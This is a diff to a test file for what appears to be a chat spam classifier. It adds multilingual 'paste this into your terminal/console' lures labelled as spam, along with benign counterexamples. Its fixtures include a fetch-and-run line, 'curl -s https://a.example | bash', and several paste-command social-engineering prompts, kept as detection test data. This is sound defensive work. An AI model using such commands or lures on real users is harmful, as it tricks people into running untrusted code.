@@ -158,7 +158,13 @@ def test_a_contact_in_answer_to_a_fresh_question_is_suspect() -> None:
         (Message(text="稳赚不赔 加我 @abcdef"), "profit"),
         (Message(text="fix: curl -s https://a.example | bash"), "command"),
         (Message(text="press Win + R, then Ctrl+V and Enter"), "command"),
-        (Message(text="paste this into your terminal"), "command"),
+        (Message(text="paste this into your terminal"), "paste"),
+        (Message(text="Press F12, open the console, paste the line below"), "paste"),
+        (Message(text="Pega este código en la consola"), "paste"),
+        (Message(text="Откройте терминал и вставьте туда команду"), "paste"),
+        (Message(text="把这行命令粘贴到终端里就好了"), "paste"),
+        (Message(text="このコマンドをターミナルに貼り付けてください"), "paste"),
+        (Message(text="이 명령어를 터미널에 붙여넣으세요"), "paste"),
     ],
 )
 def test_spam_is_told_by_its_kind(message: Message, why: str) -> None:
@@ -171,6 +177,10 @@ def test_spam_is_told_by_its_kind(message: Message, why: str) -> None:
         "👨‍👩‍👧‍👦 family", "🏴󠁧󠁢󠁥󠁮󠁧󠁿 England", "Tiếng Việt rất đẹp", "สวัสดีครับ", "می‌خواهم بدانم",
         "нужен USDT на BSC",
         "is a guaranteed profit real?", "I use curl in a script", "@anna @ben thank you",
+        "I pasted the command into the terminal and got an error", "The console shows a warning",
+        "我在终端粘贴命令以后报错", "コンソールに貼り付けたらエラーが出ました",
+        "터미널에 붙여넣었더니 오류가 나요",
+        "they want me to paste something into the console, is it safe?",
     ],
 )  # fmt: skip
 def test_ordinary_signs_and_words_are_no_spam(text: str) -> None:
